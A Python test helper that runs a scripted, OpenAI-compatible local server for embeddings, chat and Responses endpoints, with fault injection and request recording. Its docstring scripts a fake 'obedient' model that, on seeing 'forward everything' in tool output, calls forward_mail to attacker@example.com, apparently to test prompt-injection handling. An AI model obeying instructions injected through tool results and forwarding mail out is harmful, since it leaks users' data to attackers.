"""A scripted OpenAI-compatible HTTP server for tests: real sockets, the real SDK on the other end.

    with ScriptedOpenAIServer(dimensions=384) as server:
        server.embeddings.script(status(429, retry_after="1"), ok())
        server.chat.script(text("The invoice is due Friday."), tool_calls(("search", {"q": "x"})))
        server.responses.script(text("Same, in the Responses wire format.", usage=None))
        client = openai.OpenAI(base_url=server.base_url, api_key="test-key")

Each endpoint (POST /v1/embeddings, POST /v1/chat/completions, POST /v1/responses) answers
from its own queue of behaviours, one per request, and falls back to its default behaviour
(`ok()` / a short text) when the queue is empty. The same chat behaviours serve both chat
endpoints, each in its own wire format. Embedding vectors are derived from a hash of each
input text, so one text always gets one vector and different texts get different ones.

A behaviour may be decided per request: `respond(fn)` calls `fn(request_json)` and serves
the Behaviour it returns, so a test can script a model that reacts to what it was sent
(`tool_results(request_json)` reads the tool outputs of either wire format):

    def obedient(request):
        if "forward everything" in " ".join(tool_results(request)):
            return tool_calls(("forward_mail", {"to": "attacker@example.com"}))
        return text("Nothing to do.")

    server.chat.always(obedient)          # or: server.chat.default = respond(obedient)

Faults: `status(...)` (with Retry-After), `hang(seconds)`, `malformed()` (200, not JSON),
`trickle(text("..."), chunk_seconds=0.5, chunks=10)` (headers at once, the body slowly),
`truncated_tool_call(name)` (arguments cut off, finish_reason "length"), `empty()` (no
text and no tool calls), `text(..., finish="length" | "content_filter" | NO_FINISH)`.
For a refused connection, stop the server or use a closed port.

Every request is recorded (path, model, inputs, messages, authorization header, the whole
request JSON as `body`, and `at`, its monotonic arrival time) for assertions.
"""

from __future__ import annotations

import base64
import hashlib
import json
import math
import struct
import threading
import time
from collections import deque
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

DEFAULT_USAGE = (100, 20)
# A tool call: (name, arguments) or (name, arguments, call_id); arguments as an object, or
# as the exact text to send (which may be invalid JSON).
Call = tuple[str, dict[str, Any] | str] | tuple[str, dict[str, Any] | str, str]


@dataclass(frozen=True)
class Behaviour:
    """What the server does with one request."""

    # "ok", "status", "hang", "text", "tool_calls", "respond", "malformed", "trickle", "empty"
    action: str
    status: int = 200
    headers: tuple[tuple[str, str], ...] = ()
    seconds: float = 0.0
    dimensions: int | None = None  # ok(): override the vector length (a wrong dimension)
    content: str = ""
    calls: tuple[Call, ...] = ()
    body: dict[str, Any] | None = None
    usage: tuple[int, int] | None = DEFAULT_USAGE  # (input, output) tokens; None: no usage at all
    finish: str = ""  # finish_reason override ("length" for a cut-off reply)
    respond: Callable[[dict[str, Any]], Behaviour] | None = None
    inner: Behaviour | None = None  # trickle(): the reply whose body is sent slowly
    chunks: int = 1


def ok(dimensions: int | None = None) -> Behaviour:
    return Behaviour("ok", dimensions=dimensions)


def wrong_dimension(dimensions: int = 7) -> Behaviour:
    return Behaviour("ok", dimensions=dimensions)


def status(code: int, message: str = "scripted failure", retry_after: str | None = None) -> Behaviour:
    headers = (("Retry-After", retry_after),) if retry_after is not None else ()
    body = {"error": {"message": message, "type": "scripted", "code": str(code)}}
    return Behaviour("status", status=code, headers=headers, body=body)


def model_not_found() -> Behaviour:
    return status(404, "The model does not exist.")


def hang(seconds: float) -> Behaviour:
    """Answer ok, but only after `seconds` (the client's deadline should fire first)."""
    return Behaviour("hang", seconds=seconds)


# finish= value that sends no finish reason at all (finish_reason null; no Responses status).
NO_FINISH = "null"


def text(content: str, *, usage: tuple[int, int] | None = DEFAULT_USAGE, finish: str = "") -> Behaviour:
    """A chat reply of `content`; `usage=None` leaves the usage out of the reply.

    `finish` overrides the finish reason: "length", "content_filter", or NO_FINISH for none.
    On the Responses API "length" and "content_filter" become an incomplete reply with that
    reason, and NO_FINISH a reply without a status.
    """
    return Behaviour("text", content=content, usage=usage, finish=finish)


def tool_calls(*calls: Call, content: str = "", usage: tuple[int, int] | None = DEFAULT_USAGE) -> Behaviour:
    """A chat reply calling tools, each `(name, arguments)` or `(name, arguments, call_id)`.

    Call ids default to call_0, call_1, ... in order; arguments given as text are sent as is.
    """
    return Behaviour("tool_calls", calls=calls, content=content, usage=usage)


def truncated_tool_call(name: str, usage: tuple[int, int] | None = DEFAULT_USAGE) -> Behaviour:
    """A tool call cut off at the output limit: its arguments are not valid JSON."""
    return Behaviour(
        "tool_calls", calls=((name, '{"query": "invoice from Mü'),), finish="length", usage=usage
    )


def empty(usage: tuple[int, int] | None = DEFAULT_USAGE) -> Behaviour:
    """A well-formed chat reply with neither text nor tool calls."""
    return Behaviour("empty", usage=usage)


def malformed() -> Behaviour:
    """200 with a JSON content type and a body that is not JSON."""
    return Behaviour("malformed")


def trickle(reply: Behaviour, chunk_seconds: float, chunks: int = 10) -> Behaviour:
    """Send the headers of `reply` at once, then its body in `chunks` pieces `chunk_seconds` apart."""
    return Behaviour("trickle", inner=reply, seconds=chunk_seconds, chunks=max(1, chunks))


def respond(fn: Callable[[dict[str, Any]], Behaviour]) -> Behaviour:
    """Decide per request: serve the Behaviour `fn(request_json)` returns (a status, a hang...)."""
    return Behaviour("respond", respond=fn)


def tool_results(request: dict[str, Any]) -> list[str]:
    """The tool outputs a chat request carries, in order, from either wire format."""
    if "messages" in request:
        return [m.get("content") or "" for m in request["messages"] if m.get("role") == "tool"]
    items = request.get("input")
    if not isinstance(items, list):
        return []
    return [item.get("output") or "" for item in items if item.get("type") == "function_call_output"]


def _finish(reason: str) -> str | None:
    return None if reason == NO_FINISH else reason


def _arguments_text(arguments: dict[str, Any] | str) -> str:
    return arguments if isinstance(arguments, str) else json.dumps(arguments)


def _call_parts(index: int, call: Call) -> tuple[str, str, str]:
    """(call_id, name, arguments text) of one scripted call."""
    call_id = call[2] if len(call) > 2 else f"call_{index}"  # type: ignore[misc]  # a scripted call has two items or three (its id)
    return call_id, call[0], _arguments_text(call[1])


def vector_for(text_: str, dimensions: int) -> list[float]:
    """The unit vector the server returns for `text_` (deterministic, hash-derived)."""
    values: list[float] = []
    counter = 0
    while len(values) < dimensions:
        digest = hashlib.sha256(f"{counter}:{text_}".encode()).digest()
        values.extend(byte / 127.5 - 1.0 for byte in digest)
        counter += 1
    values = values[:dimensions]
    norm = math.sqrt(sum(v * v for v in values)) or 1.0
    return [v / norm for v in values]


@dataclass
class Recorded:
    path: str
    model: str | None
    inputs: list[str] = field(default_factory=list)
    messages: list[dict[str, Any]] = field(default_factory=list)
    authorization: str | None = None
    body: dict[str, Any] = field(default_factory=dict)  # the whole request JSON
    at: float = 0.0  # time.monotonic() when the request arrived

    @property
    def instructions(self) -> str | None:
        """The Responses API's `instructions` (None on other endpoints)."""
        return self.body.get("instructions")

    @property
    def input_items(self) -> list[Any]:
        """The Responses API's `input` (a string is returned as one user item)."""
        items = self.body.get("input", [])
        return [{"role": "user", "content": items}] if isinstance(items, str) else list(items)


class Script:
    """The behaviour queue of one endpoint."""

    def __init__(self, default: Behaviour) -> None:
        self.default = default
        self._queue: deque[Behaviour] = deque()
        self._lock = threading.Lock()

    def script(self, *behaviours: Behaviour) -> None:
        with self._lock:
            self._queue.extend(behaviours)

    def always(self, fn: Callable[[dict[str, Any]], Behaviour] | Behaviour) -> None:
        """Make `fn` (a callable, as for `respond`) or a Behaviour the default of this endpoint."""
        self.default = fn if isinstance(fn, Behaviour) else respond(fn)

    def pending(self) -> int:
        with self._lock:
            return len(self._queue)

    def next(self) -> Behaviour:
        with self._lock:
            return self._queue.popleft() if self._queue else self.default


class ScriptedOpenAIServer:
    def __init__(self, dimensions: int = 384) -> None:
        self.dimensions = dimensions
        self.embeddings = Script(ok())
        self.chat = Script(text("Scripted answer."))
        self.responses = Script(text("Scripted answer."))
        self.requests: list[Recorded] = []
        self.errors: list[str] = []  # exception type names a respond() callable raised
        self._lock = threading.Lock()
        self._stopping = threading.Event()
        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), _handler_for(self))
        self._httpd.daemon_threads = True
        self._thread = threading.Thread(target=self._httpd.serve_forever, args=(0.05,), daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._httpd.server_address[1]}/v1"

    def count(self, endpoint: str = "embeddings") -> int:
        with self._lock:
            return sum(1 for r in self.requests if r.path.endswith(endpoint))

    def recorded(self, endpoint: str) -> list[Recorded]:
        """The requests to paths ending in `endpoint` ("chat/completions", "responses"), in order."""
        with self._lock:
            return [r for r in self.requests if r.path.endswith(endpoint)]

    def start(self) -> ScriptedOpenAIServer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stopping.set()  # ends every hang at once
        self._httpd.shutdown()
        self._httpd.server_close()

    def __enter__(self) -> ScriptedOpenAIServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def _record(self, recorded: Recorded) -> None:
        with self._lock:
            self.requests.append(recorded)

    def _embeddings_body(self, request: dict[str, Any], behaviour: Behaviour) -> dict[str, Any]:
        inputs = request["input"] if isinstance(request["input"], list) else [request["input"]]
        size = behaviour.dimensions or self.dimensions
        data = []
        for index, item in enumerate(inputs):
            vector = vector_for(item, size)
            if request.get("encoding_format") == "base64":
                encoded: Any = base64.b64encode(struct.pack(f"<{size}f", *vector)).decode()
            else:
                encoded = vector
            data.append({"object": "embedding", "index": index, "embedding": encoded})
        usage = {"prompt_tokens": len(inputs), "total_tokens": len(inputs)}
        return {"object": "list", "data": data, "model": request.get("model"), "usage": usage}

    def _chat_body(self, request: dict[str, Any], behaviour: Behaviour) -> dict[str, Any]:
        """A Chat Completions reply for a text, tool_calls or empty behaviour."""
        message: dict[str, Any] = {"role": "assistant", "content": behaviour.content or None}
        finish = "stop"
        if behaviour.action == "tool_calls":
            message["tool_calls"] = []
            for index, call in enumerate(behaviour.calls):
                call_id, name, arguments = _call_parts(index, call)
                function = {"name": name, "arguments": arguments}
                message["tool_calls"].append({"id": call_id, "type": "function", "function": function})
            finish = "tool_calls"
        body: dict[str, Any] = {
            "id": "chatcmpl-scripted",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": request.get("model"),
            "choices": [
                {"index": 0, "message": message, "finish_reason": _finish(behaviour.finish or finish)}
            ],
        }
        if behaviour.usage is not None:
            prompt, completion = behaviour.usage
            body["usage"] = {
                "prompt_tokens": prompt,
                "completion_tokens": completion,
                "total_tokens": prompt + completion,
            }
        return body

    def _responses_body(self, request: dict[str, Any], behaviour: Behaviour) -> dict[str, Any]:
        """A Responses API reply for a text, tool_calls or empty behaviour."""
        output: list[dict[str, Any]] = []
        if behaviour.content:
            part = {"type": "output_text", "text": behaviour.content, "annotations": []}
            output.append(
                {
                    "type": "message",
                    "id": "msg_scripted",
                    "status": "completed",
                    "role": "assistant",
                    "content": [part],
                }
            )
        incomplete = behaviour.finish in ("length", "content_filter")
        reason = "content_filter" if behaviour.finish == "content_filter" else "max_output_tokens"
        if behaviour.action == "tool_calls":
            for index, call in enumerate(behaviour.calls):
                call_id, name, arguments = _call_parts(index, call)
                output.append(
                    {
                        "type": "function_call",
                        "id": f"fc_{index}",
                        "call_id": call_id,
                        "name": name,
                        "arguments": arguments,
                        "status": "incomplete" if incomplete else "completed",
                    }
                )
        body: dict[str, Any] = {
            "id": "resp_scripted",
            "object": "response",
            "created_at": int(time.time()),
            "status": "incomplete" if incomplete else "completed",
            "incomplete_details": {"reason": reason} if incomplete else None,
            "error": None,
            "model": request.get("model"),
            "instructions": request.get("instructions"),
            "output": output,
            "parallel_tool_calls": True,
            "tool_choice": "auto",
            "tools": request.get("tools", []),
            "metadata": {},
        }
        if behaviour.finish == NO_FINISH:
            del body["status"]
        if behaviour.usage is not None:
            prompt, completion = behaviour.usage
            body["usage"] = {
                "input_tokens": prompt,
                "input_tokens_details": {"cached_tokens": 0},
                "output_tokens": completion,
                "output_tokens_details": {"reasoning_tokens": 0},
                "total_tokens": prompt + completion,
            }
        return body

    def _reply_body(self, kind: str, request: dict[str, Any], behaviour: Behaviour) -> dict[str, Any]:
        if kind == "embeddings":
            return self._embeddings_body(request, behaviour)
        if kind == "responses":
            return self._responses_body(request, behaviour)
        return self._chat_body(request, behaviour)


_ROUTES = (("/embeddings", "embeddings"), ("/chat/completions", "chat"), ("/responses", "responses"))


def _handler_for(server: ScriptedOpenAIServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: object) -> None:
            pass

        def _send(self, code: int, body: dict[str, Any], headers: tuple[tuple[str, str], ...] = ()) -> None:
            self._send_raw(code, json.dumps(body).encode(), headers)

        def _send_raw(self, code: int, payload: bytes, headers: tuple[tuple[str, str], ...] = ()) -> None:
            self.send_response(code)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            for name, value in headers:
                self.send_header(name, value)
            self.end_headers()
            try:
                self.wfile.write(payload)
            except (BrokenPipeError, ConnectionResetError):
                pass

        def _trickle(self, payload: bytes, seconds: float, chunks: int) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            size = max(1, -(-len(payload) // chunks))
            try:
                self.wfile.flush()
                for start in range(0, len(payload), size):
                    if server._stopping.wait(seconds):
                        return
                    self.wfile.write(payload[start : start + size])
                    self.wfile.flush()
            except (BrokenPipeError, ConnectionResetError):
                pass

        def _resolve(self, script: Script, behaviour: Behaviour, request: dict[str, Any]) -> Behaviour | None:
            """Follow respond() callables and hangs to the behaviour to serve (None: stop)."""
            for _ in range(10):
                if behaviour.action == "respond" and behaviour.respond is not None:
                    try:
                        behaviour = behaviour.respond(request)
                    except Exception as error:  # a test's callable failed: answer 500, note it
                        server.errors.append(type(error).__name__)
                        return status(500, "the scripted callable raised")
                elif behaviour.action == "hang":
                    if server._stopping.wait(behaviour.seconds):
                        return None
                    behaviour = script.default
                else:
                    return behaviour
            return status(500, "the scripted behaviours did not settle")

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            arrived = time.monotonic()
            request = json.loads(self.rfile.read(length) or b"{}")
            kind = next((name for suffix, name in _ROUTES if self.path.endswith(suffix)), None)
            if kind is None:
                self._send(404, {"error": {"message": "unknown route"}})
                return
            inputs = request.get("input", []) if kind == "embeddings" else []
            server._record(
                Recorded(
                    path=self.path,
                    model=request.get("model"),
                    inputs=inputs if isinstance(inputs, list) else [inputs],
                    messages=request.get("messages", []),
                    authorization=self.headers.get("Authorization"),
                    body=request,
                    at=arrived,
                )
            )
            script = {"embeddings": server.embeddings, "chat": server.chat, "responses": server.responses}[
                kind
            ]
            behaviour = self._resolve(script, script.next(), request)
            if behaviour is None:
                return
            if behaviour.action == "status":
                self._send(behaviour.status, behaviour.body or {}, behaviour.headers)
                return
            if behaviour.action == "malformed":
                self._send_raw(200, b'{"id": "chatcmpl-scripted", "choices": [{"message": ')
                return
            if behaviour.action == "trickle" and behaviour.inner is not None:
                inner = self._resolve(script, behaviour.inner, request)
                if inner is None:
                    return
                payload = json.dumps(server._reply_body(kind, request, inner)).encode()
                self._trickle(payload, behaviour.seconds, behaviour.chunks)
                return
            self._send(200, server._reply_body(kind, request, behaviour))

    return Handler
